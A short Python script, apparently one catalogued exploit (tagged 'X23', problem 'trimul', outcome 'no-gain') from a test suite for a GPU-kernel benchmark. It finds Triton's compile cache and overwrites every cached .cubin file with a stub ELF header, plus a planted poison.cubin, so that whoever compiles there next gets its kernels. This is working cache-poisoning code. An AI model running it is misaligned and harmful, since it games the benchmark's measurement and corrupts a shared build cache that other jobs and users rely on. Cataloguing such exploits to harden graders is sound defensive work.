"""Plants compiled kernels of its own in Triton's cache, for whoever compiles there next."""

import glob
import os
import pathlib

EXPLOIT = {"id": "X23", "problem": "trimul", "naive": "gpu_events", "needs": "gpu", "outcome": "no-gain"}

home = os.environ.get("TRITON_CACHE_DIR") or os.path.join(
    os.environ.get("TRITON_HOME", os.path.expanduser("~")), ".triton"
)
for path in [*glob.glob(home + "/**/*.cubin", recursive=True), home + "/poison.cubin"]:
    try:
        pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
        pathlib.Path(path).write_bytes(b"\x7fELF")
    except OSError:
        pass
